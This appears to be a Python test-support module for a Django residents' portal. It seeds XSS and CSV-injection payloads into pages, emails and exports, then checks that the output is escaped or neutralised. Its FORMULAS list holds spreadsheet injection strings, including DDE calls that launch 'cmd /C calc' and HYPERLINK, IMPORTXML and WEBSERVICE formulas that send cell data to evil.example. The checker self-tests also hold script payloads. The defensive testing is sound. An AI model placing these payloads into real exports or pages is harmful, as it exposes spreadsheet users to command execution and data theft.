"""Hostile text through notices, surveys, votes and events (issue #10, "Markup"): what the
feature modules ``test_xss_<feature>.py`` share, and the checks of the checkers themselves.

Each feature module seeds one world for the whole module (``seeded_world``): every payload of
the corpus (xss.py's, plus spreadsheet formulas) goes into every text field people type, and
people's names are payloads too; then every page, email and export that shows them is rendered
once. The module's tests then read those outputs: no executable HTML anywhere (xss.py's
``executable_parts``), the payload shown as text where it belongs (escaped, not silently
lost), and in CSV and XLSX exports no cell that a spreadsheet would run as a formula.
"""

import csv
import io
import re
from contextlib import contextmanager
from html.parser import HTMLParser

import openpyxl
from django.core import mail
from django.db import transaction
from django.test import Client, override_settings
from django_scopes import scopes_disabled

from tests import factories as f
from tests.conftest import _build_org

from .xss import executable_parts, payloads

# Cells a spreadsheet evaluates (OWASP "CSV injection"): a leading = + - @, or a tab or a
# carriage return before one (Excel drops the blank and reads the rest).
FORMULAS = [
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click for your refund\")",
    "=IMPORTXML(CONCAT(\"http://evil.example/?\",A2),\"//a\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    "+86 138 0000 0000",
    "-人民币 100",
    "@业主委员会",
    "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
    "=WEBSERVICE(\"http://evil.example/\"&A1)",
]
_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"^[-+]?\d+(\.\d+)?$")

CORPUS = payloads() + FORMULAS
PASSWORDLESS = "portal.accounts.backends.PhoneOrEmailBackend"


def name_of(payload: str) -> str:
    """A payload as it fits a person's name (150 characters)."""
    return payload[:150]


def title_of(payload: str, limit: int = 200) -> str:
    """A payload as services store it in a title: stripped, within the field's length."""
    return payload[:limit].strip()


class _Text(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.parts: list[str] = []
        self.values: list[str] = []

    def handle_data(self, data):
        self.parts.append(data)

    def handle_starttag(self, tag, attrs):
        self.values.extend(value for _name, value in attrs if value)


def shown_text(markup: str) -> str:
    """What a reader sees of ``markup`` (text and attribute values, entities decoded): an
    escaped payload appears here as the very characters that were typed."""
    parser = _Text()
    parser.feed(markup)
    parser.close()
    return "\n".join(parser.parts + parser.values)


def assert_inert(name: str, markup: str) -> None:
    found = executable_parts(markup)
    assert not found, f"{name}: {found[:5]}"


def csv_cells(content: bytes) -> list[str]:
    text = content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def xlsx_cells(content: bytes) -> list[tuple[object, str]]:
    """(value, openpyxl data type) of every cell; type "f" is a formula."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [(cell.value, cell.data_type) for sheet in book.worksheets
            for row in sheet.iter_rows() for cell in row if cell.value is not None]


def formula_cells(cells) -> list[str]:
    """Cells a spreadsheet would evaluate: text starting with = + - @ (or tab / CR), except
    plain numbers; XLSX cells stored as formulas. Neutralised cells start with '."""
    found = []
    for cell in cells:
        value, kind = cell if isinstance(cell, tuple) else (cell, "s")
        if kind == "f":
            found.append(f"formula {value!r}")
        elif isinstance(value, str) and value.startswith(_TRIGGERS) and not _NUMBER.match(
                value):
            found.append(repr(value))
    return found


def cells_show(cells, payload: str) -> bool:
    """The payload is in a cell, possibly neutralised with a leading '."""
    values = [cell[0] if isinstance(cell, tuple) else cell for cell in cells]
    return any(isinstance(v, str) and payload.strip() in v for v in values)


@contextmanager
def seeded_world(django_db_blocker, media_root):
    """Sunrise (tests/conftest.py's organisation) for a whole module, rolled back after it.
    Function-scoped autouse fixtures do not reach a module fixture, so their settings are
    applied here."""
    with django_db_blocker.unblock(), override_settings(
        LANGUAGE_CODE="en", MEDIA_ROOT=str(media_root),
        PASSWORD_HASHERS=["django.contrib.auth.hashers.MD5PasswordHasher"],
        EMAIL_BACKEND="django.core.mail.backends.locmem.EmailBackend",
    ):
        atomic = transaction.atomic()
        atomic.__enter__()
        try:
            with scopes_disabled():
                world = _build_org("sunrise")
            yield world
        finally:
            transaction.set_rollback(True)
            atomic.__exit__(None, None, None)


def crowd(unit, names) -> list:
    """One verified owner in ``unit`` per name."""
    with scopes_disabled():
        return [f.ResidencyFactory(unit=unit, user__full_name=name_of(name)).user
                for name in names]


def client_for(user) -> Client:
    client = Client()
    client.force_login(user, backend=PASSWORDLESS)
    return client


def emails_html(outbox) -> dict[str, str]:
    return {f"email {i} {message.subject[:40]}": content
            for i, message in enumerate(outbox)
            for content, mimetype in message.alternatives if mimetype == "text/html"}


def emails_after_delivery() -> dict[str, str]:
    """The HTML of every email the outbox worker sends now, named for the page checks."""
    from communications.delivery import send_due

    mail.outbox.clear()
    with scopes_disabled():
        send_due()
    return emails_html(mail.outbox)


def html_pages(shown: dict) -> dict[str, str]:
    """The rendered pages and emails among a module's ``shown`` items (not exports)."""
    return {name: page for name, page in shown.items() if isinstance(page, str)}


# The checkers themselves: a missed finding would make every test here pass vacuously.


def test_the_corpus_has_over_two_hundred_payloads():
    assert len(CORPUS) >= 200 + len(FORMULAS)


def test_the_html_checker_finds_what_runs_and_passes_what_is_escaped():
    assert executable_parts("<p><img src=x onerror=alert(1)></p>")
    assert executable_parts('<a href="&#106;avascript:alert(1)">x</a>')
    assert not executable_parts("<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>")
    assert "<script>alert(1)</script>" in shown_text("<p>&lt;script&gt;alert(1)&lt;/script&gt;")


def test_the_formula_checker_finds_formulas_and_passes_neutralised_cells():
    assert len(formula_cells(FORMULAS)) == len(FORMULAS)
    assert not formula_cells(["'" + value for value in FORMULAS])
    assert not formula_cells(["-12", "3.5", "2026-03-01 09:00", "", "张三"])
    book = openpyxl.Workbook()
    book.active.append(["=1+1", "'=1+1"])
    buffer = io.BytesIO()
    book.save(buffer)
    assert formula_cells(xlsx_cells(buffer.getvalue())) == ["formula '=1+1'"]
